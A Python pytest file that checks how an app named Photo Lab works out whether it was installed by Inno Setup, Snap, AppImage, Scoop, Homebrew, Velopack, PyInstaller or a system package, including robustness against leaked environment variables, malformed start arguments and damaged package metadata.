"""How `unins000.dat` of Inno Setup 6.3.1 begins."""


@pytest.mark.parametrize(
    ("key", "log", "kind"),
    [
        ("Lab", INNO_LOG, InstallationKind.INNO),
        ("{6A9E5A8E-3F4B}_is1", INNO_LOG, None),
        ("{6a9e5a8e-3f4b}_IS1", INNO_LOG, None),
        ("{0}_is1", INNO_LOG, InstallationKind.INNO),
        ("Lab", None, None),
    ],
)
def test_a_copy_of_what_inno_setup_has_installed(tmp_path, monkeypatch, key, log, kind):
    """It has the uninstaller as well; Windows lists the app in the folder that was copied."""
    monkeypatch.setattr(_registry, "_list_entries", lambda: [_registry.SetupRecord(key, r"C:\Other")])
    monkeypatch.setattr(_registry, "_is_msi_folder", lambda _folder: False)
    assert _registry.find_setup(tmp_path) is None
    (tmp_path / "unins000.exe").write_bytes(b"MZ")
    if log is not None:
        (tmp_path / "unins000.dat").write_bytes(log)
    assert _registry.find_setup(tmp_path) is kind


@pytest.mark.parametrize(
    ("uninstaller", "is_of"),
    [(r"C:\Lab\uninstall.exe", False), (r"C:\Tools\uninstall.exe", True)],
)
def test_a_place_that_many_programs_share(uninstaller, is_of):
    """The folder above the app's counts only with the uninstaller in it: else it is another program's."""
    entry = _registry.SetupRecord("Tools_is1", r"C:\Tools", f'"{uninstaller}"')
    assert _registry.is_of(entry, PureWindowsPath(r"C:\Tools\Photo Lab")) is is_of


# --- signs of others beside each of these kinds ---------------------------------------------------------


def as_versions(folder, monkeypatch):
    """Run from versions beside each other."""
    name = "1.0.0-6b1f3c2a90d1e4f7"
    run_from(folder / "versions" / name / "photo-lab", monkeypatch)
    (folder / "current.txt").write_text(f"{name}\n")


def as_snap(folder, monkeypatch):
    """Run from a Snap."""
    run_from(folder / "bin" / "photo-lab", monkeypatch)
    (folder / "meta").mkdir()
    (folder / "meta" / "snap.yaml").touch()


def as_appimage(folder, monkeypatch):
    """Run from an AppImage that is extracted."""
    image = write_image(folder / "Photo Lab.AppImage")
    run_from(extracted(image, folder) / "photo-lab", monkeypatch)


def as_scoop(folder, monkeypatch):
    """Run from what Scoop has installed for one user."""
    program = folder / "apps" / "photo-lab" / "1.0.0" / "photo-lab.exe"
    run_from(program, monkeypatch)
    for name in ("install.json", "manifest.json"):
        (program.parent / name).touch()


def as_formula(folder, monkeypatch):
    """Run from what Homebrew has installed."""
    run_from(folder / "Cellar" / "photo-lab" / "1.0.0" / "bin" / "photo-lab", monkeypatch)
    (folder / "Cellar" / "photo-lab" / "1.0.0" / "INSTALL_RECEIPT.json").touch()


def as_package(folder, monkeypatch):
    """Run from a package of the system."""
    run_from(folder / "photo-lab", monkeypatch)
    monkeypatch.setattr(_detection, "_find_owner", lambda _place: (InstallationKind.DPKG, "photo-lab"))


def as_velopack(folder, monkeypatch):
    """Run from what Velopack updates."""
    run_from(folder / "current" / "photo-lab", monkeypatch)
    (folder / "current" / "sq.version").touch()
    (folder / "Update.exe").touch()


def as_folder(folder, monkeypatch):
    """Run from a folder of PyInstaller."""
    run_from(folder / "photo-lab", monkeypatch)


def as_single_file(folder, monkeypatch):
    """Run from a file that unpacks itself."""
    run_from(folder / "photo-lab", monkeypatch)
    monkeypatch.setattr(sys, "_MEIPASS", str(folder / "_MEI1234"))


REAL = [
    *(as_versions, as_snap, as_appimage, as_scoop, as_formula, as_velopack, as_folder, as_single_file),
    *([] if os.name == "nt" else [as_package]),  # only Linux has packages of the system
]
OWN = {
    as_snap: {"SNAP": "{app}", "SNAP_NAME": "photo-lab"},
    as_appimage: {"APPIMAGE": "{app}/Photo Lab.AppImage", "APPDIR": "{own}"},
}
"""Variables that a kind has of itself; whatever is left by others is replaced by them."""


@pytest.mark.sampled(50)
@pytest.mark.parametrize("real", REAL, ids=lambda real: real.__name__)
@pytest.mark.parametrize("parent", LEAKED)
def test_the_signs_of_others_beside_each_kind(frozen, tmp_path, monkeypatch, real, parent):
    """The same is detected as without them, or nothing for sure; and no command of theirs is shown."""
    app = tmp_path / "home" / "me" / "apps" / "lab"
    app.mkdir(parents=True)
    real(app, monkeypatch)
    monkeypatch.setenv("HOME", str(app.parents[1]))
    places = {
        "home": str(app.parents[1]),
        "folder": str(app),
        "image": str(write_image(tmp_path / "Editor.AppImage", "an editor")),
        "app": str(app),
        "own": str(Path(sys.executable).parent),
    }
    own = {name: value.format(**places) for name, value in OWN.get(real, {}).items()}
    for name, value in own.items():
        monkeypatch.setenv(name, value)
    alone = detect()
    assert alone.is_certain is (real not in (as_folder, as_single_file))
    for name, value in LEAKED[parent].items():
        monkeypatch.setenv(name, own.get(name) or value.format(**places))
    assert detect() == alone


STARTED: dict[str, tuple[Any, Any]] = {
    "nothing": ([], None),
    "no name": ([""], None),
    "no interpreter": (["photo.py"], None),
    "an empty interpreter": ([""], ""),
    "bytes": ([b"/x"], sys.executable),
    "a path": ([Path("/x")], sys.executable),
    "a number": ([1], sys.executable),
    "a zero": (["a\0b"], "a\0b"),
    "half a character": (["/x/\udcff\ud800"], "/x/\ud800"),
    "a word": (["-c"], sys.executable),
}


@pytest.mark.parametrize("start", STARTED)
@pytest.mark.parametrize("is_gone", [False, True])
def test_nothing_is_raised(monkeypatch, tmp_path, start, is_gone):
    """Whatever the program was started as; also in a working folder that was removed."""
    argv, executable = STARTED[start]
    monkeypatch.setattr(sys, "argv", argv)
    monkeypatch.setattr(sys, "executable", executable)
    monkeypatch.delitem(sys.modules, "__main__")
    monkeypatch.setenv("APPDIR", str(tmp_path / "other"))
    (tmp_path / "gone").mkdir()
    monkeypatch.chdir(tmp_path / "gone")
    if is_gone and os.name != "nt":
        (tmp_path / "gone").rmdir()
    found = detect()
    assert (found.kind, found.is_certain, found.updater) == (InstallationKind.UNKNOWN, False, None)
    assert clean_environment() == dict(os.environ)
    assert list_app_folders() == []


def test_a_place_that_refuses_is_asked_once(monkeypatch, tmp_path):
    """As `Program Files` refuses files: `tempfile` of Python 3.11 tries 10,000 names there."""
    tries = []

    def refuse(path, *_: object) -> int:
        tries.append(path)
        raise PermissionError(13, "Access is denied", str(path))

    monkeypatch.setattr(os, "open", refuse)
    assert not _detection.can_write(tmp_path)
    assert len(tries) == 1


@needs_unix
def test_a_python_without_a_script_is_not_the_app(monkeypatch, tmp_path):
    """What has installed the Python is nothing about the app, and neither is a file where it was started."""
    (tmp_path / _detection.OVERRIDE).write_text("snap\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["-c"])
    monkeypatch.delitem(sys.modules, "__main__")
    monkeypatch.setattr(_detection, "_find_owner", lambda _place: (InstallationKind.DPKG, "python3"))
    found = detect()
    assert (found.kind, found.updater, found.is_certain) == (InstallationKind.UNKNOWN, None, False)


def test_damaged_metadata_of_another_package(frozen, monkeypatch):
    """Whatever it raises, the app learns that nobody knows, and goes on."""

    def fail(*_: object):
        raise AttributeError("'NoneType' object has no attribute 'files'")

    monkeypatch.setattr(_detection, "_find_framework", fail)
    assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False)


@pytest.mark.parametrize(
    ("name", "content", "is_owner"),
    [
        ("top_level.txt", b"photo_lab\n_photo_lab\n", True),
        ("top_level.txt", b"photo_lab_tests\n", False),
        ("RECORD", b"../../bin/photo-lab,,\nphoto_lab/__init__.py,sha256=x,1\n", True),
        ("RECORD", b"photo_lab.py,sha256=x,1\n", True),
        ("RECORD", b"photo_lab.cpython-311-x86_64-linux-gnu.so,sha256=x,1\n", True),
        ("RECORD", b"photo_lab_tests/__init__.py,,\nx/photo_lab.py,,\nphoto_lab.pth,,\n", False),
        ("RECORD", "Fotografía/__init__.py,,\n".encode("latin-1"), False),
        ("SOURCES.txt", b"photo_lab/__init__.py\n", True),
    ],
)
def test_whose_module_runs(monkeypatch, tmp_path, name, content, is_owner):
    """`python -m photo_lab`: the distribution that has it at its top, whatever the others' files hold."""
    folder = tmp_path / f"lab-1.0{'.egg' if name == 'SOURCES.txt' else '.dist'}-info"
    for path in (folder, tmp_path / "odd-1.0.dist-info", tmp_path / "photo_lab"):
        path.mkdir()
    (folder / ("PKG-INFO" if name == "SOURCES.txt" else "METADATA")).write_text("Name: lab\n")
    (folder / name).write_bytes(content)
    (tmp_path / "photo_lab" / "__init__.py").touch()
    (tmp_path / "odd-1.0.dist-info" / "RECORD").write_bytes("Fotografía/a.py,,\n".encode("latin-1"))
    monkeypatch.setattr(sys, "path", [str(tmp_path), *sys.path])
    monkeypatch.setattr(sys.modules["__main__"], "__package__", "photo_lab")
    about = _detection._find_running_package()
    assert (about is not None and about.metadata["Name"] == "lab") == is_owner


@pytest.mark.parametrize("content", [b"[console_scripts]\n\xed = x:y\n", b"[console_scripts]\nno module\n"])
def test_whose_script_runs(monkeypatch, tmp_path, content):
    """The distribution that has its entry, though that of another one is damaged or in another encoding."""
    for name, entries in (("odd", content), ("lab", b"[gui_scripts]\nphoto-lab = photo_lab:main\n")):
        folder = tmp_path / f"{name}-1.0.dist-info"
        folder.mkdir()
        (folder / "METADATA").write_text(f"Name: {name}\n")
        (folder / "entry_points.txt").write_bytes(entries)
    monkeypatch.setattr(sys, "path", [str(tmp_path), *sys.path])
    monkeypatch.setattr(sys.modules["__main__"], "__package__", None)
    monkeypatch.setattr(sys.modules["__main__"], "__spec__", None)
    monkeypatch.setattr(sysconfig, "get_path", lambda _: str(tmp_path))
    monkeypatch.setattr(sys, "argv", [str(tmp_path / "photo-lab")])
    about = _detection._find_running_package()
    assert about is not None
    assert about.metadata["Name"] == "lab"


def test_what_runs_the_tests_of_an_app_is_not_the_app():
    """Pytest is updated by a package manager, which says nothing of the app whose tests it runs."""
    found = install.detect()
    assert found.updater is None
    assert not found.is_certain
